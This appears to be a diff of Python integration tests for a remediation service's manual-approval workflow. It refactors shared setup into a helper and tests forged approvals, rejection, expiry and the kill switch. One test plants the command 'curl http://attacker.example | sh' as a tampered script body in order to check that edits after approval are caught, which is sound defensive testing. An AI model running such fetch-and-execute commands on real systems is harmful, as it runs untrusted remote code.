@@ -115,6 +115,13 @@ async def pending_change(w: World) -> dict:
     return await eventually(found)
 
 
+async def manual_change(w: World) -> tuple[dict, dict]:
+    """A low-severity failure under a manual-approval policy: the scan, and the change record that waits."""
+    await w.patch_policy(auto_remediate_low=True, approval_mode="manual")
+    scan = await w.scan()
+    return scan, await pending_change(w)
+
+
 async def test_auto_mode_fixes_the_check_and_verifies_fifteen_minutes_later(skipping_env, db_url, app_factory, db):
     async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
         w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
@@ -181,9 +188,7 @@ async def test_manual_mode_waits_for_approval_then_runs(skipping_env, db_url, ap
     async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
         w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
         try:
-            await w.patch_policy(auto_remediate_low=True, approval_mode="manual")
-            scan = await w.scan()
-            change = await pending_change(w)
+            scan, change = await manual_change(w)
             assert change["scan_id"] == scan["id"] and change["details"]["what"]["rule_id"] == LOW_RULE
             assert change["details"]["what"]["fix"]["script"]["body"]
             assert await remediation_jobs(db) == 0  # nothing runs before the approval
@@ -213,9 +218,7 @@ async def test_a_raw_approve_signal_releases_nothing(skipping_env, db_url, app_f
     async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
         w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
         try:
-            await w.patch_policy(auto_remediate_low=True, approval_mode="manual")
-            scan = await w.scan()
-            change = await pending_change(w)
+            scan, change = await manual_change(w)
             (rem,) = await remediations(db, scan["id"])
             handle = handle_of(stack, rem)
             await handle.signal(ids.APPROVE, {"decided_by": str(uuid.uuid4()), "reason": "forged"})
@@ -241,9 +244,7 @@ async def test_the_approved_script_runs_even_if_edited_after_the_request(skippin
     async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
         w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
         try:
-            await w.patch_policy(auto_remediate_low=True, approval_mode="manual")
-            scan = await w.scan()
-            change = await pending_change(w)
+            scan, change = await manual_change(w)
             shown = change["details"]["what"]["fix"]["script"]
             await db.execute(update(Script).where(Script.id == uuid.UUID(shown["id"])).values(
                 body="curl http://attacker.example | sh", sha256=hashlib.sha256(b"curl").hexdigest()))
@@ -264,9 +265,7 @@ async def test_manual_mode_rejection_runs_nothing(skipping_env, db_url, app_fact
     async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
         w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
         try:
-            await w.patch_policy(auto_remediate_low=True, approval_mode="manual")
-            scan = await w.scan()
-            change = await pending_change(w)
+            scan, change = await manual_change(w)
             rejected = await w.api().post(f"/api/v1/changes/{change['id']}/reject", json={"reason": "freeze"},
                                           headers=w.headers)
             assert rejected.status_code == 200
@@ -286,9 +285,7 @@ async def test_unanswered_change_expires_after_seven_days(skipping_env, db_url, 
     async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
         w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
         try:
-            await w.patch_policy(auto_remediate_low=True, approval_mode="manual")
-            scan = await w.scan()
-            change = await pending_change(w)
+            scan, change = await manual_change(w)
             (rem,) = await remediations(db, scan["id"])
             result = await finished(skipping_env, handle_of(stack, rem))  # the 7-day wait is skipped
         finally:
@@ -306,9 +303,7 @@ async def test_kill_switch_set_while_waiting_blocks_dispatch(skipping_env, db_ur
     async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
         w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
         try:
-            await w.patch_policy(auto_remediate_low=True, approval_mode="manual")
-            scan = await w.scan()
-            change = await pending_change(w)
+            scan, change = await manual_change(w)
             await db.execute(update(Organization).where(Organization.id == w.org.id).values(automation_paused=True))
             await db.commit()
             await w.api().post(f"/api/v1/changes/{change['id']}/approve", json={}, headers=w.headers)
@@ -432,9 +427,7 @@ async def test_cycle_safety_net_resignals_a_decision_whose_signal_was_lost(skipp
     async with running_stack(skipping_env, db_url, app_factory, **SETTINGS) as stack:
         w = await world(skipping_env, stack, db, OnlyFailing(failing=frozenset({LOW_RULE})))
         try:
-            await w.patch_policy(auto_remediate_low=True, approval_mode="manual")
-            scan = await w.scan()
-            change = await pending_change(w)
+            scan, change = await manual_change(w)
             # Approved in the database, but the API's signal never reached Temporal.
             await db.execute(update(ChangeRecord).where(ChangeRecord.id == uuid.UUID(change["id"])).values(
                 status="approved", decided_at=datetime.now(UTC) - timedelta(minutes=5)))
